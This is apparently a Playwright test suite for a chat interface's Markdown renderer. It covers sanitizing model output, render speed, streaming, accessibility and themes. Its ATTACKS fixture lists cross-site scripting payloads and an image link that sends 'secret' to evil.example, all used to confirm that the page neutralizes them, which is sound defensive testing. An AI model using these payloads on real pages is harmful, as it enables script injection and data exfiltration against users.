"""What a model, or a web page that it quotes, may say without harm; and what the page does for every reader."""

import pytest

pytest.importorskip("fastapi", reason="the server's libraries are not installed")
pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

from playwright.sync_api import expect

from support.page_server import Script, call, content, reasoning

ATTACKS = """<script>alert(1)</script> <img src=x onerror=alert(2)> <svg/onload=alert(3)>

[a](javascript:alert(4)) [b](data:text/html,<script>alert(5)</script>) [c](vbscript:x) [d]( jAvAsCrIpT:alert(6))
[e](java\tscript:alert(7)) <javascript:alert(8)> [f](//evil.example/x) [g](/v1/models)

![picture](https://evil.example/?q=secret) ![](https://evil.example/pixel.png)
[![x](https://evil.example/a.png)](javascript:alert(9)) <https://evil.example/"onmouseover="alert(10)>

| <img src=x onerror=alert(11)> | b |
|---|---|
| <iframe src="https://evil.example"></iframe> | `<script>alert(12)</script>` |

> <style>body{background:url(https://evil.example/css)}</style>

```html"><img src=x onerror=alert(13)>
<script>alert(14)</script>
```

- <a href="https://evil.example" onclick=alert(15)>x</a> <form action=https://evil.example><input autofocus></form>
"""
UNKNOWN = ("script", "iframe", "svg:not(.icon)", "form:not(.results)", "style", "link", "object", "embed", "img")


def test_what_a_model_says_never_becomes_markup_or_a_request(tab):
    page = tab.open()
    name = '<img src=x onerror="alert(16)">'
    calls = call(0, name, '{"x": "</code><script>alert(17)</script>"}')
    tab.model.says(Script([*reasoning(ATTACKS), *content(ATTACKS), *calls], finish="tool_calls"))
    tab.ask(f"Quote this: {ATTACKS}")
    page.locator(".reasoning summary").click()
    page.locator(".reasoning-body table").wait_for()
    page.reload()
    page.locator(".answer table").first.wait_for()
    for tag in UNKNOWN:
        assert page.locator(f".turns {tag}").count() == 0, tag
    for link in page.locator(".turns a").all():
        assert link.get_attribute("href").startswith("https://evil.example/")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("onmouseover") is None
        link.hover(force=True)
    assert page.locator(".call-name").inner_text() == name
    assert "<script>alert(1)</script>" in page.locator(".answer > .markdown").last.inner_text()


@pytest.mark.parametrize(
    "text",
    [
        "[" * 3000,
        "**a " * 1500,
        "`" * 2999 + " x",
        "> " * 1500 + "x",
        "*_~" * 1000,
        "[](" * 1000,
        "- " * 1200 + "x",
        "|" * 3000 + "\n" + "|-" * 3000,
        "\\(" * 1500,
        "$$" * 1500,
        "<https://" * 400,
    ],
)
def test_no_text_takes_long_to_draw(workbench, text: str):
    """Quadratic readers hang here; a complete drawing of each takes milliseconds."""
    took = workbench.evaluate(
        """async (text) => {
            const { MarkdownView } = await import("/ui/markdown.js");
            const began = performance.now();
            new MarkdownView().update(text, true);
            return performance.now() - began;
        }""",
        text,
    )
    assert took < 400


def test_a_growing_text_is_drawn_as_a_whole_one(workbench):
    cases = workbench.evaluate(
        """async (texts) => {
            const { MarkdownView } = await import("/ui/markdown.js");
            return texts.map((text) => {
                const whole = new MarkdownView();
                whole.update(text, true);
                return [1, 3, 7].map((step) => {
                    const grown = new MarkdownView();
                    for (let end = step; end < text.length; end += step) grown.update(text.slice(0, end));
                    grown.update(text, true);
                    return [grown.node.innerHTML, whole.node.innerHTML];
                });
            });
        }""",
        [ATTACKS, MIXED],
    )
    for versions in cases:
        for grown, whole in versions:
            assert grown == whole


MIXED = """Para one
goes on

* item
* other

  with a paragraph

      deep
1) one
2) two
```js
const a = `x
y`; /* open
still */ let b = 1;
```
Text | with pipe
---|---
a \\| b | `c|d`
*e* | f

| g | h |
|:-:|--:|
| 1 | 2
~~~
open fence
"""


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a\nb", "<p>a\nb</p>"),
        ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
        ("***both***", "<p><em><strong>both</strong></em></p>"),
        ("snake_case_name and 2 * 3 * 4", "<p>snake_case_name and 2 * 3 * 4</p>"),
        ("``a ` b``", "<p><code>a ` b</code></p>"),
        (r"\*not\*", "<p>*not*</p>"),
        ("~~gone~~ ~kept~", "<p><del>gone</del> ~kept~</p>"),
        ("###### six", '<h6 class="h6">six</h6>'),
        ("#nothing", "<p>#nothing</p>"),
        ("a\n***\nb", "<p>a</p><hr><p>b</p>"),
        ("3. three\n4. four", '<ol start="3"><li>three</li><li>four</li></ol>'),
        ("> a\n> - b", "<blockquote><p>a</p><ul><li>b</li></ul></blockquote>"),
        ("costs $5 or $6", "<p>costs $5 or $6</p>"),
        (r"\(x_1\)", '<p><code class="math">x_1</code></p>'),
        ("line<br>break", "<p>line<br>break</p>"),
    ],
)
def test_markdown(workbench, text: str, html: str):
    drawn = workbench.evaluate(
        """async (text) => {
            const view = new (await import("/ui/markdown.js")).MarkdownView();
            view.update(text, true);
            return view.node.innerHTML;
        }""",
        text,
    )
    assert drawn == html


def test_a_long_answer_leaves_the_page_responsive(tab):
    """5,000 tokens as fast as they come: no task of the page may hold a key press for long."""
    page = tab.open()
    block = (
        "Words **and** `code` go on here.\n\n```python\n"
        + "x = call(1, 'two')  # three\n" * 60
        + "```\n\n- item\n- item\n\n"
    )
    tab.model.says(Script(content(block * 11, step=16, depth=2, pause=0.001)))
    page.keyboard.press("Alt+t")
    page.evaluate(
        """() => {
            globalThis.longest = 0;
            let last = performance.now();
            const look = () => {
                const now = performance.now();
                globalThis.longest = Math.max(globalThis.longest, now - last);
                last = now;
                globalThis.timer = setTimeout(look, 0);
            };
            look();
        }"""
    )
    tab.send("Much")
    page.locator('.send[aria-label="Stop"]').wait_for()
    page.keyboard.type("typed while it streams")
    tab.wait_idle()
    assert page.input_value("#message") == "typed while it streams"
    assert page.locator(".answer pre").count() == 11
    assert page.evaluate("globalThis.longest") < 500  # this machine may be busy; a redraw of all took seconds


def test_the_view_follows_the_end_only_while_the_reader_is_there(tab):
    page = tab.open()
    tab.model.says(Script(content("A line of text.\n\n" * 150, step=40, pause=0.01)))
    tab.send("Much")
    frame = page.locator(".frame")
    expect(page.locator(".answer p")).not_to_have_count(0)
    page.wait_for_timeout(300)
    at_end = "node => node.scrollHeight - node.scrollTop - node.clientHeight < 100"
    assert frame.evaluate(at_end)
    frame.hover()
    page.mouse.wheel(0, -400)
    page.locator(".jump").wait_for()
    top = frame.evaluate("node => node.scrollTop")
    tab.wait_idle()
    assert frame.evaluate("node => node.scrollTop") == top
    page.locator(".jump").click()
    assert frame.evaluate(at_end)


def test_keys_are_documented_and_dialogs_give_the_focus_back(tab):
    page = tab.open()
    page.keyboard.press("Control+/")
    dialog = page.get_by_role("dialog", name="Keyboard")
    expect(dialog).to_contain_text("Stop the answer")
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    expect(page.locator("#message")).to_be_focused()
    page.keyboard.press("Control+b")
    expect(page.locator(".sidebar")).to_be_hidden()
    page.keyboard.press("Control+b")
    page.keyboard.type("a")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("b")
    assert page.input_value("#message") == "a\nb"
    tab.model.says(Script(content("One.")), Script(content("Two.")))
    page.keyboard.press("Enter")
    tab.wait_idle()
    page.keyboard.press("Control+Shift+Enter")
    expect(page.locator(".answer > .markdown")).to_have_text("Two.")


CONTRAST = """() => {
    const parse = (text) => (text.match(/[\\d.]+/g) ?? []).map(Number);
    const linear = (v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
    const light = ([r, g, b]) => [r, g, b].map((v) => linear(v / 255))
        .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
    const ground = (node) => {
        for (; node; node = node.parentElement) {
            const colour = parse(getComputedStyle(node).backgroundColor);
            if (colour.length === 3 || colour[3] > 0.99) return colour;
        }
        return [255, 255, 255];
    };
    const poor = [];
    const contrast = (one, other) => {
        const [a, b] = [light(parse(one)), light(other)].sort((x, y) => y - x);
        return (a + 0.05) / (b + 0.05);
    };
    for (const node of document.querySelectorAll(".composer, input, textarea, select")) {
        const style = getComputedStyle(node);
        if (style.borderTopStyle !== "solid" || !node.checkVisibility()) continue;
        const ratio = contrast(style.borderTopColor, ground(node.parentElement));
        if (ratio < 3) poor.push(`frame of ${node.className || node.tagName}: ${ratio.toFixed(2)}`);
    }
    for (const node of document.querySelectorAll("body *")) {
        const own = [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim());
        const isSeen = node.checkVisibility({ visibilityProperty: true, opacityProperty: true });
        if (!own || !isSeen || node.closest(":disabled, .visually-hidden, .skip")) continue;
        const ratio = contrast(getComputedStyle(node).color, ground(node));
        if (ratio < 4.5) poor.push(`${node.className || node.tagName}: ${ratio.toFixed(2)}`);
    }
    return poor;
}"""
FULL = """> quoted

```python
def f(x):  # note
    return "text" + 1 + X.y
```

```diff
+ in
- out
```
"""


@pytest.mark.parametrize("tab", [{"color_scheme": "light"}, {"color_scheme": "dark"}], indirect=True)
def test_text_has_enough_contrast_in_both_themes(tab, request: pytest.FixtureRequest):
    page = tab.open()
    tab.model.says(
        Script([*reasoning("Hm."), *content(FULL, depth=2), *call(0, "f", '{"a": [1, "b"]}')], finish="tool_calls")
    )
    tab.ask("Hello")
    scheme = request.node.callspec.params["tab"]["color_scheme"]
    assert page.evaluate("document.documentElement.dataset.theme") == scheme
    assert page.evaluate(CONTRAST) == []
    page.keyboard.press("Control+,")
    assert page.evaluate(CONTRAST) == []


def test_the_theme_can_be_chosen_and_stays(tab):
    page = tab.open()
    themes = []
    for _ in range(3):
        page.get_by_role("button", name="Theme").click()
        themes.append(page.evaluate("document.documentElement.dataset.theme"))
    assert themes == ["light", "dark", "light"]  # the last: as the system has it
    page.get_by_role("button", name="Theme").click()
    page.get_by_role("button", name="Theme").click()
    page.reload()
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(23, 25, 28)"


@pytest.mark.parametrize("tab", [{"viewport": {"width": 360, "height": 720}, "has_touch": True}], indirect=True)
def test_a_phone_shows_everything_without_scrolling_sideways(tab):
    page = tab.open()
    wide = (
        "```text\n"
        + "x" * 300
        + "\n```\n\n| "
        + " | ".join(["column"] * 12)
        + " |\n"
        + "|---" * 12
        + "|\n\n"
        + "y" * 300
    )
    tab.model.says(Script(content(wide, depth=3)))
    tab.ask("z" * 200)
    assert page.evaluate("document.documentElement.scrollWidth") == 360
    assert page.locator(".frame").evaluate("node => node.scrollWidth <= node.clientWidth")
    expect(page.locator(".sidebar")).to_be_hidden()
    page.get_by_role("button", name="Show the list").click()
    expect(page.locator(".sidebar")).to_be_visible()
    page.locator(".conversation-open").click()
    expect(page.locator(".sidebar")).to_be_hidden()
    for button in page.locator("button:visible").all():
        box = button.bounding_box()
        assert box["width"] >= 24 and box["height"] >= 24, button.get_attribute("class")


def test_every_control_has_a_name(tab):
    page = tab.open()
    tab.ask("Hello")
    nameless = page.evaluate(
        """() => [...document.querySelectorAll("button, input, textarea, select, a, dialog")].filter((node) => {
            const hasName = node.getAttribute("aria-label") || node.getAttribute("aria-labelledby") ||
                node.textContent.trim() || node.labels?.length;
            return !hasName && !node.closest("[hidden], dialog:not([open])");
        }).map((node) => node.outerHTML.slice(0, 80))"""
    )
    assert nameless == []


def test_a_window_without_storage_still_talks(tab):
    tab.page.add_init_script(
        "Object.defineProperty(globalThis, 'indexedDB', {get() { throw new Error('no storage'); }})"
    )
    page = tab.open()
    expect(page.locator(".notice")).to_contain_text("cannot keep conversations")
    tab.ask("Hello")
    expect(page.locator(".answer > .markdown")).to_have_text("Hello.")
    tab.ask("Again")
    expect(page.locator(".conversation-open")).to_have_count(1)


def test_a_server_that_does_not_know_our_extension_is_asked_without_it(tab):
    page = tab.open()
    error = {"message": "unknown field", "type": "invalid_request_error", "param": "stepahead", "code": "x"}
    tab.model.says(Script([], status=400, error=error), Script(content("Fine.")))
    tab.ask("Hello")
    expect(page.locator(".answer > .markdown")).to_have_text("Fine.")
    assert ["stepahead" in request for request in tab.model.requests] == [True, False]


def test_two_windows_show_the_same_conversations(tab):
    page = tab.open()
    other = tab.context.new_page()
    other.goto(tab.server.url)
    tab.ask("Hello there")
    expect(other.locator(".conversation-open")).to_have_text(["Hello there"])
    page.close()
